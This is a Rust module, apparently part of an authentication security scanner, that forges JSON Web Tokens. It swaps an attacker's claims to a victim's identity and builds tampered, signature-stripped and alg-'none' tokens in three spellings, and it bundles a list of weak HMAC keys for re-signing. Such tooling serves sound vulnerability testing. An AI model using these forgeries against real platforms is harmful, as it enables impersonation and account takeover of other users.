//! Forged credentials, as pure decisions: what a JSON Web Token is (three base64url parts, a JSON header
//! that names its `alg`), where one sits in a credential's header value, which claims of an attacker's own
//! token are swapped to the victim's identity, and the unsigned forgeries (the signature kept over changed
//! claims, the signature stripped, `alg: none` in three spellings), built by hand.
//!
//! Tokens signed again with a key (one of [`weak_keys`], found offline against the attacker's own token)
//! need HMAC: that crypto lives in the harness (a JWT crate there), so this crate stays free of I/O and of
//! crypto dependencies.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde::Serialize;
use serde_json::{Map, Value};

/// The bundled list of common weak HMAC secrets (`data/weak-jwt-keys.txt`).
const WEAK_KEYS: &str = include_str!("../data/weak-jwt-keys.txt");

/// The common weak secrets, in list order.
pub fn weak_keys() -> impl Iterator<Item = &'static str> {
    WEAK_KEYS
        .lines()
        .filter(|line| !line.trim().is_empty() && !line.starts_with('#'))
}

/// How `none` is spelled in a forged header (platforms that compare it case-sensitively refuse one spelling
/// and not another).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum NoneSpelling {
    /// `none`.
    Lower,
    /// `None`.
    Title,
    /// `NONE`.
    Upper,
}

impl NoneSpelling {
    /// The `alg` value.
    pub fn alg(self) -> &'static str {
        match self {
            NoneSpelling::Lower => "none",
            NoneSpelling::Title => "None",
            NoneSpelling::Upper => "NONE",
        }
    }
}

/// How a token was forged from the attacker's own token; the claims are always swapped to the victim.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "kebab-case", tag = "forgery", content = "spelling")]
pub enum Forgery {
    /// The original header and signature over the changed claims (a platform that does not verify).
    Tampered,
    /// The original header, the signature removed.
    Stripped,
    /// `alg` set to none, no signature.
    AlgNone(NoneSpelling),
    /// Signed again with a common weak key that signs the attacker's own token (found offline).
    WeakKey,
    /// As [`Forgery::WeakKey`], with `exp` moved into the past: an expired token must be refused.
    WeakKeyExpired,
}

impl Forgery {
    /// Every forgery, in planning order.
    pub const ALL: [Forgery; 7] = [
        Forgery::Tampered,
        Forgery::Stripped,
        Forgery::AlgNone(NoneSpelling::Lower),
        Forgery::AlgNone(NoneSpelling::Title),
        Forgery::AlgNone(NoneSpelling::Upper),
        Forgery::WeakKey,
        Forgery::WeakKeyExpired,
    ];

    /// A short name, for cells and probe identifiers.
    pub fn name(self) -> &'static str {
        match self {
            Forgery::Tampered => "tampered",
            Forgery::Stripped => "stripped",
            Forgery::AlgNone(NoneSpelling::Lower) => "alg-none",
            Forgery::AlgNone(NoneSpelling::Title) => "alg-None",
            Forgery::AlgNone(NoneSpelling::Upper) => "alg-NONE",
            Forgery::WeakKey => "weak-key",
            Forgery::WeakKeyExpired => "weak-key-expired",
        }
    }

    /// How the token was made, for reproducers (never the key itself).
    pub fn describe(self) -> &'static str {
        match self {
            Forgery::Tampered => "claims swapped to the victim, the original signature kept",
            Forgery::Stripped => "claims swapped to the victim, the signature removed",
            Forgery::AlgNone(NoneSpelling::Lower) => {
                "claims swapped to the victim, header alg \"none\", no signature"
            }
            Forgery::AlgNone(NoneSpelling::Title) => {
                "claims swapped to the victim, header alg \"None\", no signature"
            }
            Forgery::AlgNone(NoneSpelling::Upper) => {
                "claims swapped to the victim, header alg \"NONE\", no signature"
            }
            Forgery::WeakKey => {
                "claims swapped to the victim, signed again with a common weak key that signs the platform's tokens"
            }
            Forgery::WeakKeyExpired => {
                "claims swapped to the victim, exp moved into the past, signed again with a common weak key"
            }
        }
    }

    /// Whether the forgery needs the signing key (found offline among [`weak_keys`]).
    pub fn needs_key(self) -> bool {
        matches!(self, Forgery::WeakKey | Forgery::WeakKeyExpired)
    }
}

/// A decoded JSON Web Token.
#[derive(Debug, Clone, PartialEq)]
pub struct Jwt {
    /// The header (it names `alg`).
    pub header: Map<String, Value>,
    /// The claims.
    pub claims: Map<String, Value>,
    /// The encoded header, as sent.
    pub header_part: String,
    /// The encoded claims, as sent.
    pub payload_part: String,
    /// The encoded signature, as sent.
    pub signature_part: String,
}

fn decode_object(part: &str) -> Option<Map<String, Value>> {
    let bytes = URL_SAFE_NO_PAD.decode(part.trim_end_matches('=')).ok()?;
    match serde_json::from_slice(&bytes).ok()? {
        Value::Object(map) => Some(map),
        _ => None,
    }
}

fn encode_object(map: &Map<String, Value>) -> String {
    URL_SAFE_NO_PAD.encode(Value::Object(map.clone()).to_string())
}

impl Jwt {
    /// A token of three base64url parts whose header is a JSON object naming a string `alg` and whose
    /// payload is a JSON object; `None` for anything else (an opaque session token).
    pub fn parse(token: &str) -> Option<Jwt> {
        let mut parts = token.split('.');
        let (h, p, s) = (parts.next()?, parts.next()?, parts.next()?);
        if parts.next().is_some() {
            return None;
        }
        let header = decode_object(h)?;
        header.get("alg")?.as_str()?;
        let claims = decode_object(p)?;
        Some(Jwt {
            header,
            claims,
            header_part: h.to_string(),
            payload_part: p.to_string(),
            signature_part: s.to_string(),
        })
    }

    /// What the signature covers: the encoded header and claims, as sent.
    pub fn signing_input(&self) -> String {
        format!("{}.{}", self.header_part, self.payload_part)
    }

    /// What a signature would cover with `claims` in place of the token's own (its header kept).
    pub fn signing_input_with(&self, claims: &Map<String, Value>) -> String {
        format!("{}.{}", self.header_part, encode_object(claims))
    }

    /// The header's `alg`.
    pub fn alg(&self) -> &str {
        self.header.get("alg").and_then(Value::as_str).unwrap_or("")
    }
}

fn is_token_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')
}

/// Where a JSON Web Token sits in a credential header's value (`Bearer <jwt>`, `name=<jwt>; other=...`):
/// the byte range of the first run of token characters that parses as one.
pub fn find(value: &str) -> Option<std::ops::Range<usize>> {
    let mut start = None;
    for (i, c) in value.char_indices().chain([(value.len(), ' ')]) {
        match (is_token_char(c), start) {
            (true, None) => start = Some(i),
            (false, Some(s)) => {
                if Jwt::parse(&value[s..i]).is_some() {
                    return Some(s..i);
                }
                start = None;
            }
            _ => {}
        }
    }
    None
}

/// One identifying value of an identity, as the attacker's and the victim's (a login, an e-mail, the
/// platform's user id, a tenant, a role).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Swap {
    /// The attacker's value.
    pub attacker: String,
    /// The victim's value of the same kind.
    pub victim: String,
}

/// Claims that hold the token's own instance, never an identity: they are never swapped.
const INSTANCE_CLAIMS: [&str; 6] = ["jti", "iat", "nbf", "exp", "iss", "aud"];

fn same_value(claim: &Value, value: &str) -> bool {
    match claim {
        Value::String(s) => s == value,
        Value::Number(n) => n.to_string() == value,
        _ => false,
    }
}

/// The attacker's claims turned to the victim: every top-level claim (the token's instance claims aside)
/// whose value is one of the attacker's identifying values takes the victim's value of that kind, keeping
/// its JSON type; `sub`, the subject (RFC 7519), takes the victim's own token's `sub`. Returns the claims
/// and the names of those swapped (none: nothing to forge).
pub fn swap_claims(
    attacker: &Map<String, Value>,
    victim: &Map<String, Value>,
    swaps: &[Swap],
) -> (Map<String, Value>, Vec<String>) {
    let mut claims = attacker.clone();
    let mut swapped = Vec::new();
    for (name, value) in claims.iter_mut() {
        if INSTANCE_CLAIMS.contains(&name.as_str()) {
            continue;
        }
        let new = if name == "sub" && victim.get("sub").is_some_and(|v| v != value) {
            victim.get("sub").cloned()
        } else {
            swaps
                .iter()
                .find(|s| s.attacker != s.victim && same_value(value, &s.attacker))
                .map(|s| match value {
                    Value::Number(_) => s
                        .victim
                        .parse::<serde_json::Number>()
                        .map_or_else(|_| Value::String(s.victim.clone()), Value::Number),
                    _ => Value::String(s.victim.clone()),
                })
        };
        if let Some(new) = new
            && new != *value
        {
            *value = new;
            swapped.push(name.clone());
        }
    }
    (claims, swapped)
}

/// `claims` with `exp` moved into the past (before `iat` when there is one; else the epoch's first second).
pub fn expired(claims: &Map<String, Value>) -> Map<String, Value> {
    let mut claims = claims.clone();
    let past = claims
        .get("iat")
        .and_then(Value::as_i64)
        .map_or(1, |iat| (iat - 3600).max(1));
    claims.insert("exp".into(), past.into());
    claims
}

/// An unsigned forgery of `jwt` carrying `claims`; `None` for the forgeries that need a key.
pub fn unsigned(jwt: &Jwt, claims: &Map<String, Value>, forgery: Forgery) -> Option<String> {
    let payload = encode_object(claims);
    match forgery {
        Forgery::Tampered => Some(format!(
            "{}.{payload}.{}",
            jwt.header_part, jwt.signature_part
        )),
        Forgery::Stripped => Some(format!("{}.{payload}.", jwt.header_part)),
        Forgery::AlgNone(spelling) => {
            let mut header = jwt.header.clone();
            header.insert("alg".into(), spelling.alg().into());
            Some(format!("{}.{payload}.", encode_object(&header)))
        }
        Forgery::WeakKey | Forgery::WeakKeyExpired => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn token(header: Value, claims: Value) -> String {
        format!(
            "{}.{}.c2ln",
            URL_SAFE_NO_PAD.encode(header.to_string()),
            URL_SAFE_NO_PAD.encode(claims.to_string())
        )
    }

    fn object(v: Value) -> Map<String, Value> {
        match v {
            Value::Object(m) => m,
            _ => Map::new(),
        }
    }

    #[test]
    fn jwts_are_told_from_opaque_tokens() {
        let t = token(json!({"alg": "HS256"}), json!({"sub": "1"}));
        assert_eq!(
            Jwt::parse(&t).map(|j| j.alg().to_string()),
            Some("HS256".into())
        );
        for opaque in [
            "3f9a1c0b7e",
            "a.b.c",
            "",
            &token(json!({"typ": "JWT"}), json!({})),
            &token(json!({"alg": "HS256"}), json!([1])),
            &format!("{t}.x"),
        ] {
            assert_eq!(Jwt::parse(opaque), None, "{opaque}");
        }
    }

    #[test]
    fn a_token_is_found_in_a_header_value() {
        let t = token(json!({"alg": "HS256"}), json!({"sub": "1"}));
        let bearer = format!("Bearer {t}");
        assert_eq!(find(&bearer).map(|r| &bearer[r]), Some(t.as_str()));
        let cookie = format!("other=abc; session={t}; theme=dark");
        assert_eq!(find(&cookie).map(|r| &cookie[r]), Some(t.as_str()));
        assert_eq!(find("Bearer 3f9a1c0b7e"), None);
        assert_eq!(find("session=a.b.c"), None);
    }

    #[test]
    fn identifying_claims_are_swapped_and_instance_claims_kept() {
        let attacker = object(json!({
            "sub": "17", "uid": 17, "email": "a@x.test", "role": "applicant", "tenant": "t1",
            "jti": "s-a", "iat": 100, "exp": 200, "name": "Ann"
        }));
        let victim = object(json!({"sub": "42", "jti": "s-v", "iat": 150, "exp": 250}));
        let swaps = [
            Swap {
                attacker: "17".into(),
                victim: "42".into(),
            },
            Swap {
                attacker: "a@x.test".into(),
                victim: "v@x.test".into(),
            },
            Swap {
                attacker: "applicant".into(),
                victim: "applicant".into(),
            },
            Swap {
                attacker: "t1".into(),
                victim: "t2".into(),
            },
        ];
        let (claims, mut swapped) = swap_claims(&attacker, &victim, &swaps);
        swapped.sort();
        assert_eq!(swapped, ["email", "sub", "tenant", "uid"]);
        assert_eq!(claims["sub"], json!("42"));
        assert_eq!(claims["uid"], json!(42), "a number stays a number");
        assert_eq!(claims["tenant"], json!("t2"));
        assert_eq!(claims["role"], json!("applicant"));
        assert_eq!(
            claims["jti"],
            json!("s-a"),
            "the victim's session id is not the attacker's to know"
        );
        assert_eq!(
            (claims["iat"].clone(), claims["exp"].clone()),
            (json!(100), json!(200))
        );
        assert_eq!(claims["name"], json!("Ann"));
        // Nothing identifying: nothing to forge.
        let (_, none) = swap_claims(&object(json!({"scope": "read"})), &victim, &swaps);
        assert!(none.is_empty());
    }

    #[test]
    fn unsigned_forgeries_carry_the_claims_and_no_valid_signature() {
        let t = token(
            json!({"alg": "HS256", "typ": "JWT"}),
            json!({"sub": "1", "iat": 5000}),
        );
        let jwt = Jwt::parse(&t).expect("a jwt");
        let claims = object(json!({"sub": "2", "iat": 5000}));
        for forgery in Forgery::ALL {
            let Some(forged) = unsigned(&jwt, &claims, forgery) else {
                assert!(forgery.needs_key());
                continue;
            };
            let parsed = Jwt::parse(&forged).expect("still a jwt");
            assert_eq!(parsed.claims, claims, "{forgery:?}");
            match forgery {
                Forgery::Tampered => assert_eq!(parsed.signature_part, "c2ln"),
                Forgery::AlgNone(spelling) => {
                    assert_eq!(parsed.alg(), spelling.alg());
                    assert_eq!(parsed.header["typ"], json!("JWT"));
                    assert!(parsed.signature_part.is_empty());
                }
                _ => assert!(parsed.signature_part.is_empty()),
            }
        }
        assert_eq!(expired(&claims)["exp"], json!(1400));
        assert_eq!(expired(&object(json!({})))["exp"], json!(1));
    }

    #[test]
    fn the_weak_key_list_is_modest_and_has_the_usual_suspects() {
        let keys: Vec<&str> = weak_keys().collect();
        assert!((50..=100).contains(&keys.len()), "{}", keys.len());
        for k in ["secret", "changeme", "jwt-secret", "your-256-bit-secret"] {
            assert!(keys.contains(&k), "{k}");
        }
        let names: std::collections::BTreeSet<&str> = Forgery::ALL.map(Forgery::name).into();
        assert_eq!(names.len(), Forgery::ALL.len());
    }
}
